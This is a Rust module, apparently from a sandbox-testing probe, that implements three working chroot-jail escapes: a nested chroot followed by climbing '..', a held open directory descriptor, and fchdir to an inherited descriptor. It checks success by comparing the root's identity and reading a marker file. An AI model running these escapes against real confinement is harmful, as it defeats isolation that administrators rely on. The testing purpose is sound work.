//! Ways out of a chroot(2) jail. All rest on one sentence of its manual: the call changes the root directory and
//! neither the working directory nor what is open, and `..` stops only at the root.
//!
//! The attack prints each call with its result. It is judged by what `/` is afterwards, not by what the calls returned:
//! a failed call ends the attack and is no error of the probe.

use std::env;
use std::fs::{self, File};
use std::os::fd::AsRawFd;
use std::os::unix::fs::chroot;

use super::report::identity;
use super::{Verb, number};
use crate::output::{call, say};
use crate::{Failure, Result, errno, sys};

pub const VERBS: &[Verb] = &[
    Verb { name: "escape-chroot", args: "<MARKER>", run: by_second_chroot },
    Verb { name: "escape-held-fd", args: "<MARKER>", run: by_held_descriptor },
    Verb { name: "escape-fd", args: "<FD> <MARKER>", run: by_descriptor },
];

const LEVELS: usize = 64;

fn by_second_chroot(args: &[String]) -> Result {
    judged(&args[0], || {
        call("chdir(\"/\")", env::set_current_dir("/"))?;
        go_deeper()?;
        // The working directory, the jail's root, now lies outside the root: on the way up `..` never meets it.
        climb()
    })
}

/// Even who does change the working directory leaves it again, by a directory that is still open.
fn by_held_descriptor(args: &[String]) -> Result {
    judged(&args[0], || {
        call("chdir(\"/\")", env::set_current_dir("/"))?;
        let held = call("open(\"/\")", File::open("/"))?;
        go_deeper()?;
        call("chdir(\"/\")", env::set_current_dir("/"))?;
        call("fchdir to what open returned", sys::fchdir(held.as_raw_fd()))?;
        climb()
    })
}

/// A second chroot, from the working directory into one below it, which stays where it is.
fn go_deeper() -> Result {
    let made = call("mkdir(\"esc\")", fs::create_dir("esc")).is_ok();
    // Any directory does; a read-only root has some too.
    let inner = if made { "esc" } else { "bin" };
    let moved = call(format_args!("chroot({inner:?})"), chroot(inner));
    if made {
        call("rmdir(\"esc\")", fs::remove_dir("esc"))?;
    }
    moved
}

/// By a directory that somebody outside left open for us.
fn by_descriptor(args: &[String]) -> Result {
    let fd = number(&args[0])?;
    judged(&args[1], || {
        call(format_args!("fchdir({fd})"), sys::fchdir(fd))?;
        climb()
    })
}

/// From a working directory outside the root up to the real one.
fn climb() -> Result {
    let up = (0..LEVELS).try_for_each(|_| env::set_current_dir(".."));
    call(format_args!("chdir(\"..\") x{LEVELS}"), up)?;
    call("chroot(\".\")", chroot("."))
}

fn judged(marker: &str, attack: impl FnOnce() -> Result) -> Result {
    let before = identity("/")?;
    match attack() {
        Ok(()) | Err(Failure::Call(..)) => {}
        wrong_usage => return wrong_usage,
    }
    let after = identity("/")?;
    say!("root-before {before}")?;
    say!("root-after {after}")?;
    match fs::read_to_string(marker) {
        Ok(text) => say!("marker {}", text.lines().next().unwrap_or_default())?,
        Err(error) => say!("marker {}", errno::name(&error))?,
    }
    say!("escaped {}", if before == after { "no" } else { "yes" })
}
